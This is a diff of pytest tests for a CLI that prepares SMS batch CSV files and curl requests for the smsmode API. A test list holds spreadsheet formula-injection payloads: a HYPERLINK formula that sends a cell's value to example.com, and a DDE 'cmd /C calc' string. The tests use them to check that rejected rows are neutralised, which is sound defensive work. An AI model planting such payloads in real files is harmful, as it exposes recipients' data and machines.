@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import csv
+import io
 import json
 import re
+import shlex
 import signal
 import subprocess
 import sys
@@ -13,9 +15,12 @@ from pathlib import Path
 import pytest
 from batch_examples import HEADER, NUMBER, vendor_file
 from command_line import COMMAND, environment, in_terminal, invoke, one_complaint, posix_only
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
 from sources import ROOT
 
 import septet
+from septet.files.spreadsheet_cells import unguarded
 
 GOOD = 'Numéro;Message;Émetteur\r\n0612345678;"Été à 10 €, dit ""elle""";RDV\r\n33612345679;b;\r\n'
 GOOD_BATCH = HEADER + b'"0612345678","\xc9t\xe9 \xe0 10 \xa4, dit ""elle""","RDV"\n"33612345679","b",""\n'
@@ -51,7 +56,10 @@ def test_a_file_as_a_spreadsheet_saves_it(charset: str, delimiter: str, line_end
     content = Path("out.csv").read_bytes()
     assert content in (GOOD_BATCH, GOOD_BATCH.replace(b"\xa4,", b"\xa4" + delimiter.encode()))
     assert result.stdout == "out.csv: 2 rows, 1 with warnings, 2 billed segments, 1 in one message at most\n"
-    assert result.stderr.endswith("sendSMSBatch.do as fichier, with your credentials\n")
+    assert result.stderr.endswith(
+        "sendSMSBatch.do as fichier, with nbr_msg=1 and your credentials; "
+        "septet request --batch out.csv shows how\n"
+    )
 
 
 def test_encoding_delimiter_and_columns_may_be_said() -> None:
@@ -67,6 +75,35 @@ def test_encoding_delimiter_and_columns_may_be_said() -> None:
 def test_standard_input_and_pipes() -> None:
     assert invoke("batch", "-", "out.csv", stdin=GOOD.encode("cp1252")).exit_code == 0
     assert Path("out.csv").read_bytes() == GOOD_BATCH
+
+
+@pytest.mark.parametrize("source", ["in.csv", "-"])
+def test_standard_output_takes_the_batch_file_or_the_refused_rows(source: str) -> None:
+    save(MIXED)
+    stdin = Path("in.csv").read_bytes()
+    first = invoke("batch", source, "-", "--rejects", "refused.csv", stdin=stdin)
+    second = invoke("batch", source, "out.csv", "--rejects", "-", stdin=stdin)
+    assert (first.exit_code, second.exit_code) == (1, 1)
+    assert first.stdout_bytes == Path("out.csv").read_bytes() == HEADER + b'"0612345678","a",""\n'
+    assert second.stdout_bytes == Path("refused.csv").read_bytes()
+    assert "standard output: 1 row, 1 billed segment, 1 in one message at most\n" in first.stderr
+    assert "refused.csv: 2 of 3 rows refused\n" in first.stderr
+    assert "standard output: 2 of 3 rows refused\n" in second.stderr
+    assert names() == ["in.csv", "out.csv", "refused.csv"]  # none is named -
+
+
+def test_standard_output_gets_nothing_of_a_file_that_is_not_whole() -> None:
+    save(MIXED)
+    result = invoke("batch", "in.csv", "-")
+    assert (result.exit_code, result.stdout_bytes) == (1, b"")
+    assert "nothing is written: 2 of 3 rows refused" in result.stderr
+
+
+def test_a_file_that_is_named_as_a_stream() -> None:
+    save(GOOD)
+    assert invoke("batch", "in.csv", "./-").exit_code == 0
+    assert Path("-").read_bytes() == GOOD_BATCH
+    assert invoke("batch", "-", "./-", "--force", stdin=GOOD.encode("cp1252")).exit_code == 0
 
 
 def test_lines_of_delimiters_alone_are_left_out() -> None:
@@ -132,6 +169,57 @@ def test_the_refused_rows_go_into_a_file_that_can_be_mended_and_given_again() ->
     assert "'line'" not in result.stderr
     # It is there all the same, so that an older one is not taken for this one's.
     assert Path("none.csv").read_text("utf-8-sig") == "numero;message;ville;line;problem\n"
+
+
+#: What a spreadsheet would run, or show without its first sign; each is a text all the same.
+LIVE = [
+    '=HYPERLINK("http://example.com?x="&A1;"Votre colis")',
+    *("=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", " =1", '"=1', "\u00a0=1", "'=1", "'à 10 €"),
+]
+
+
+def table(rows: list[list[str]]) -> str:
+    text = io.StringIO(newline="")
+    csv.writer(text, delimiter=";").writerows(rows)
+    return text.getvalue()
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(st.lists(st.text(st.sampled_from("=+-@\t '\"a1;é\u00a0"), min_size=1, max_size=6), min_size=1))
+@example(LIVE)
+def test_refused_rows_hold_no_live_formula_and_come_back_as_they_were(texts: list[str]) -> None:
+    rows = [["numero", "message", "@ville", "'=1"], *([text, text, text, "=1"] for text in texts)]
+    kept = [row for row in rows if any(row)]
+    save(table(kept), "utf-8")
+    for number in range(3):  # refused again and again, it stays the same
+        source = "in.csv" if number == 0 else f"{number - 1}.csv"
+        result = invoke("batch", source, "out.csv", "--rejects", f"{number}.csv", "--force")
+        assert result.exit_code == 1, result.stderr
+        content = Path(f"{number}.csv").read_text("utf-8-sig")
+        found = list(csv.reader(io.StringIO(content, newline=""), delimiter=";"))
+        assert [[unguarded(cell) for cell in row[:4]] for row in found] == kept
+        for cell in (cell for row in found for cell in row):
+            begins = cell.lstrip(' "\u00a0\t')
+            assert begins[:1] not in ("=", "@"), cell
+            assert begins[:1] not in ("+", "-") or set(cell[1:]) <= set("0123456789 .,")
+
+
+def test_mended_rows_have_their_texts_as_they_were() -> None:
+    save(table([["numero", "message"], *(["12", text] for text in LIVE)]), "utf-8")
+    assert invoke("batch", "in.csv", "out.csv", "--rejects", "refused.csv").exit_code == 1
+    mended = Path("refused.csv").read_text("utf-8-sig").replace("\n12;", "\n0612345678;")
+    # What the one who mends it writes anew is no guard.
+    Path("mended.csv").write_text(mended + "0612345678;'t is;99;mine\n", "utf-8")
+    result = invoke("batch", "mended.csv", "out.csv", "--force")
+    texts = [row.text for row in septet.read_batch_file("out.csv")]
+    lossy = {"\t=1": "?=1", "\u00a0=1": "?=1"}
+    assert texts == [*(lossy.get(text, text) for text in LIVE), "'t is"], result.stderr
+
+
+def test_a_table_of_ones_own_is_read_as_it_stands() -> None:
+    save("numero;message\n0612345678;'=1\n")
+    invoke("batch", "in.csv", "out.csv")
+    assert [row.text for row in septet.read_batch_file("out.csv")] == ["'=1"]
 
 
 def test_rows_of_a_wrong_length_are_refused_alone() -> None:
@@ -242,14 +330,37 @@ WRONG = {
         ["in.csv", "out.csv", "--max-segments", "9"],
         "--max-segments: smsmode takes a whole number from 1 to 5",
     ),
-    "the file itself": (GOOD, ["in.csv", "./in.csv", "--force"], "OUT is IN ('./in.csv'): give another name"),
+    "the file itself": (
+        GOOD,
+        ["in.csv", "./in.csv", "--force"],
+        "OUT: ./in.csv is that of IN: expected another name",
+    ),
     "a file that is there": (GOOD, ["in.csv", "there.csv"], "OUT: there.csv is there already"),
     "refused rows where a file is": (
         GOOD,
         ["in.csv", "out.csv", "--rejects", "there.csv"],
         "--rejects: there.csv is there already",
     ),
-    "both in one file": (GOOD, ["in.csv", "out.csv", "--rejects", "out.csv"], "--rejects is OUT ('out.csv')"),
+    "both in one file": (
+        GOOD,
+        ["in.csv", "out.csv", "--rejects", "./out.csv"],
+        "OUT and --rejects name the same file: expected two names",
+    ),
+    "both on standard output": (
+        GOOD,
+        ["in.csv", "-", "--rejects", "-"],
+        "OUT and --rejects would both be on standard output: expected a file for one",
+    ),
+    "an answer in JSON beside a file": (
+        GOOD,
+        ["in.csv", "-", "--json"],
+        "OUT and --json would both be on standard output",
+    ),
+    "refused rows beside an answer in JSON": (
+        GOOD,
+        ["in.csv", "out.csv", "--rejects", "-", "--json"],
+        "--rejects and --json would both be on standard output",
+    ),
     "a folder that is not there": (
         GOOD,
         ["in.csv", "absent/out.csv"],
@@ -351,7 +462,8 @@ def test_a_terminal_gets_a_bar_and_a_pipe_none() -> None:
         check=True,
     )
     assert done.stderr.splitlines() == [
-        "send it to https://api.smsmode.com/http/1.6/sendSMSBatch.do as fichier, with your credentials"
+        "send it to https://api.smsmode.com/http/1.6/sendSMSBatch.do as fichier, with nbr_msg=1 and your "
+        "credentials; septet request --batch 3.csv shows how"
     ]
 
 
@@ -369,6 +481,80 @@ def test_the_page_shows_what_happens() -> None:
         check=False,
     )
     assert (done.returncode, done.stdout) == (1, shown)
+
+
+# --- the request that sends it --------------------------------------------------------------
+
+
+def test_the_request_of_what_was_written() -> None:
+    save(GOOD)
+    invoke("batch", "in.csv", "out.csv")
+    result = invoke("request", "--batch", "out.csv", "--tag", "mai", "--send-at", "2130-03-05T10:00")
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout.splitlines() == [
+        "POST https://api.smsmode.com/http/1.6/sendSMSBatch.do",
+        "multipart/form-data, ISO-8859-15; the fields in the address, the file in the body",
+        "",
+        "date_envoi  05032130-10:00",
+        "refClient   mai",
+        "nbr_msg     1",
+        f"fichier     out.csv (text/csv, {len(GOOD_BATCH)} octets)",
+    ]
+    assert "add your credentials: the field accessToken" in result.stderr
+    assert result.stderr.endswith(
+        "out.csv: 2 rows, 1 with warnings, 0 refused, 2 billed segments, 1 in one message at most\n"
+    )
+    piped = invoke("request", "--batch", "-", "--json", stdin=GOOD_BATCH)
+    prepared = septet.prepare_batch(None, io.BytesIO(GOOD_BATCH))
+    assert json.loads(piped.stdout) == prepared.to_dict()
+
+
+def test_curl_gets_the_file_by_its_name() -> None:
+    name = 'of "may", 1;2.csv'
+    save(GOOD)
+    invoke("batch", "in.csv", name)
+    words = shlex.split(invoke("request", "--batch", name, "--curl", "--sender", "RDV").stdout)
+    address = "https://api.smsmode.com/http/1.6/sendSMSBatch.do?emetteur=RDV&nbr_msg=1"
+    quoted = r'"of \"may\", 1;2.csv"'
+    part = f"fichier=@{quoted};filename=fichier.csv;type=text/csv"
+    assert words == ["curl", "--request", "POST", address, "--form", part]
+    piped = shlex.split(invoke("request", "--batch", "-", "--curl", stdin=GOOD_BATCH).stdout)
+    assert piped[-1] == "fichier=@-;filename=fichier.csv;type=text/csv"
+    own = vendor_file(Path("mine.toml"), ('parameters = "query"', 'parameters = "multipart"'))
+    words = shlex.split(invoke("request", "--batch", name, "--curl", "-p", f"./{own}").stdout)
+    assert words[3:6] == [address.partition("?")[0], "--form-string", "nbr_msg=1"]
+
+
+def test_a_batch_that_may_not_be_sent_has_no_request() -> None:
+    Path("out.csv").write_bytes(HEADER + b'"12","a",""\n' * 50)
+    result = invoke("request", "--batch", "out.csv", "--send-at", "2001-01-01T10:00")
+    assert (result.exit_code, result.stdout) == (1, "")
+    assert "[schedule-past]" in result.stderr
+    assert result.stderr.count("[malformed-recipient]") == 20
+    assert result.stderr.endswith(
+        "out.csv: 50 rows, 50 refused, 0 billed segments, 0 in one message at most\n"
+    )
+
+
+@pytest.mark.parametrize(
+    ("arguments", "says"),
+    [
+        (["absent.csv"], "--batch: absent.csv cannot be read: No such file or directory"),
+        (["."], "--batch: . cannot be read: Is a directory"),
+        (["in.csv"], "in.csv, line 1: expected the header"),
+        (["out.csv", "Bonjour"], "TEXT and --batch are both given"),
+        (["out.csv", "--file", "in.csv"], "--file and --batch are both given"),
+        (["out.csv", "--recipients", "0612345678"], "--recipients: a batch file has a recipient in each row"),
+        (["out.csv", "--method", "GET"], "--method: a batch file goes out by POST, found 'GET'"),
+        (["out.csv", "-p", "gsm"], "profile gsm has no batch files; expected smsmode"),
+        (["out.csv", "--vendor-field", "stop=1"], "--vendor-field: 'stop' is no field of smsmode"),
+        (["out.csv", "--vendor-field", "stop"], "--vendor-field: expected NAME=VALUE"),
+    ],
+)
+def test_wrong_usage_of_a_batch_is_one_line(arguments: list[str], says: str) -> None:
+    save(GOOD)
+    Path("out.csv").write_bytes(GOOD_BATCH)
+    assert says in one_complaint(invoke("request", "--batch", *arguments))
 
 
 def test_what_the_command_writes_is_what_the_library_reads() -> None:
